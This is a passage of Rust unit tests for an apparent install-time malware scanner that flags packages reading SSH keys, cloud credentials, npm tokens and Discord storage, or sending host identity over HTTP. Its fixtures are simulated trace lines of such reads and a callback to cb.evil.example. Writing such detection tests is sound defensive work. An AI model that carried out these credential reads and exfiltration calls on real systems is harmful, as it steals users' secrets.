            r#"9 openat(AT_FDCWD, "/home/u/.ssh/id_rsa", O_RDONLY) = 3"#,
            "7 clone(child_stack=NULL, flags=SIGCHLD) = 10",
            r#"10 chdir("/home/u/project/node_modules/other") = 0"#,
            r#"10 execve("/bin/sh", ["sh", "-c", "node x.js"], ["PATH=/usr/bin"]) = 0"#,
            r#"10 openat(AT_FDCWD, "/home/u/.aws/credentials", O_RDONLY) = 3"#,
        ]);
        let by = |rule: &str| r.findings.iter().find(|f| f.rule == rule).and_then(|f| f.package.clone());
        assert_eq!(by("read-ssh-private-key").as_deref(), Some("@evil/pkg@1.2.3"), "from npm's environment");
        assert_eq!(by("read-cloud-credentials").as_deref(), Some("other"), "from the directory npm runs it in");
        assert_eq!(
            package_of(&[], Some("/tmp/pip-install-k2j3/psutil_0123456789abcdef0123456789abcdef")).as_deref(),
            Some("psutil")
        );
        assert_eq!(
            package_of(&["CARGO_PKG_NAME=ring".into(), "CARGO_PKG_VERSION=0.17.8".into()], None).as_deref(),
            Some("ring@0.17.8")
        );
        assert_eq!(package_of(&[], Some("/home/u/project")), None);
        assert_eq!(
            package_dir_of(&[], Some("/tmp/pip-req-build-x1y2z3/scripts")).as_deref(),
            Some("/tmp/pip-req-build-x1y2z3")
        );
        assert_eq!(
            package_dir_of(&[], Some("/home/u/p/node_modules/@s/n/lib")).as_deref(),
            Some("/home/u/p/node_modules/@s/n")
        );
    }

    #[test]
    fn lookups_in_a_home_are_listed_as_files() {
        let r = install(&[
            r#"7 execve("/usr/bin/node", ["node", "x.js"], 0x1 /* 1 var */) = 0"#,
            r#"7 access("/home/u/.config/discord/Local Storage/leveldb", F_OK) = -1 ENOENT (No such file or directory)"#,
            r#"7 newfstatat(AT_FDCWD, "/usr/lib/node/x.js", 0x7ffd, 0) = -1 ENOENT (No such file or directory)"#,
        ]);
        let probed: Vec<(&str, bool)> =
            r.behaviour.files.iter().filter(|f| f.probe).map(|f| (f.path.as_str(), f.failed)).collect();
        assert_eq!(probed, [("/home/u/.config/discord/Local Storage/leveldb", true)]);
        assert!(!r.behaviour.files.iter().any(|f| f.path.starts_with("/usr/lib")), "library lookups are not listed");
    }

    #[test]
    fn identity_in_what_is_sent_over_http() {
        let ctx =
            Context { phase: "start".into(), identity: vec!["sam-laptop".into(), "sam".into()], ..Context::default() };
        let pack = RulePack::embedded().unwrap();
        let mut a = Analyzer::new(&pack, ctx);
        let request = |seq: u64, url: &str, body: &str| Event {
            seq,
            pid: 0,
            time_ns: None,
            duration_ns: None,
            origin: Origin::Live,
            kind: EventKind::Request {
                transport: "tcp".into(),
                protocol: "https".into(),
                addr: SockAddr::Inet { ip: "104.21.1.1".into(), port: 443 },
                host: Some("cb.evil.example".into()),
                method: Some("GET".into()),
                url: Some(url.into()),
                data: tracer::Payload {
                    bytes: format!("GET / HTTP/1.1\r\nHost: sam-laptop\r\n\r\n{body}").into_bytes().into(),
                    len: None,
                    truncated: false,
                },
            },
        };
        a.event(&request(1, "https://cb.evil.example/cb?h=sam-laptop&u=sam", ""));
        a.event(&request(2, "https://cdn.example/lib.js", ""));
        a.event(&request(3, "https://cdn.example/sample", "{\"sampling\": 1}"));
        let r = a.finish();
        let hits: Vec<&str> =
            r.findings.iter().filter(|f| f.rule == "http-carries-identity").map(|f| f.subject.as_str()).collect();
        assert_eq!(hits, ["GET https://cb.evil.example/cb?h=sam-laptop&u=sam"]);
    }

    #[test]
    fn a_token_read_that_goes_nowhere_is_medium() {
        let read = [
            r#"7 execve("/usr/bin/node", ["node", "-e", "require('x')"], 0x1 /* 1 var */) = 0"#,
            "7 clone(child_stack=NULL, flags=SIGCHLD) = 8",
            r#"8 execve("/usr/bin/node", ["node", "cli.js"], 0x1 /* 1 var */) = 0"#,
            r#"8 openat(AT_FDCWD, "/home/u/.npmrc", O_RDONLY) = 3"#,
        ];
        let severity =
            |r: &PhaseReport| r.findings.iter().find(|f| f.rule == "read-registry-token").map(|f| f.severity);
        let quiet = install(&read);
        assert_eq!(severity(&quiet), Some(report::Severity::Medium));
        let mut sent = read.to_vec();
        sent.push("8 socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 4");
        sent.push(r#"8 connect(4, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("203.0.113.9")}, 16) = -1 EINPROGRESS (Operation now in progress)"#);
        assert_eq!(severity(&install(&sent)), Some(report::Severity::High));
    }
}
